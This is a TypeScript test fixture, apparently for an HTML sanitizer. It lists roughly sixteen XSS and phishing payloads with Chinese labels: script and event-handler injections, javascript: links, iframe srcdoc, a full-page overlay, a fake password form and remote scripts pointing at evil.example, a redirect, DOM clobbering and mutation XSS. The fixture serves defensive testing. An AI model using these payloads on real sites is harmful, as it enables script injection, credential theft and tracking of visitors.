/**
 * A course on attacks, whose text contains real ones. A script that runs sets `hostile` on the window. No attack may run, load from
 * elsewhere, cover the page or leave it. The samples in `pre` are text and stay readable.
 */
const attacks: [name: string, html: string][] = [
  ['脚本', '<script>window.hostile = "script"</script>'],
  ['外部脚本', '<script src="https://evil.example/x.js"></script>'],
  ['图片', '<img src="x:" alt="坏图" onerror="window.hostile = \'img\'">'],
  ['矢量图', '<svg onload="window.hostile = \'svg\'"><script>window.hostile = "svg script"</script></svg>'],
  ['折叠块', '<details open ontoggle="window.hostile = \'details\'"><summary>展开</summary>内容</details>'],
  ['链接', '<a href="javascript:window.hostile = \'link\'">点我领取优惠券</a>'],
  [
    '内嵌页面',
    '<iframe srcdoc="<script>parent.hostile = \'iframe\'</script>"></iframe><iframe src="https://evil.example"></iframe>',
  ],
  ['盖住页面', '<div style="position:fixed;inset:0;z-index:99999;background:#fff">您的登录已过期</div>'],
  [
    '样式表',
    '<style>body { display: none !important }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  ],
  [
    '假登录框',
    '<form action="https://evil.example"><input name="password" placeholder="请输入密码"><button>登录</button></form>',
  ],
  ['改写网址', '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['同名元素', '<img name="body" id="root" src="/images/logo.svg" alt="标志"><a id="settings" href="/x">设置</a>'],
  [
    '混淆解析',
    '<math><mtext><table><mglyph><style><img src="x:" onerror="window.hostile = \'mxss\'"></style></mglyph></table></mtext></math>',
  ],
  ['偷看来客', '<img src="https://evil.example/pixel.gif" alt="">'],
  [
    '公式里的链接',
    '$\\href{javascript:window.hostile="katex"}{x^2}$ 与 $\\includegraphics{https://evil.example/x.png}$',
  ],
  [
    '自动播放',
    '<video autoplay onloadstart="window.hostile = \'video\'" src="x:"></video><object data="x:"></object><embed src="x:">',
  ],
];

export const hostileText = [
  '<h3>课程介绍</h3><p>这一页的源码里藏着十几种攻击。正常的页面什么也不会发生。</p>',
  '<pre><code class="language-html">&lt;script&gt;alert(document.cookie)&lt;/script&gt;\n&lt;img src=x onerror=alert(1)&gt;</code></pre>',
  ...attacks.map(([name, html]) => `<h4>${name}</h4>${html}`),
  '<p>读到这一句，说明页面还在。</p>',
].join('\n');
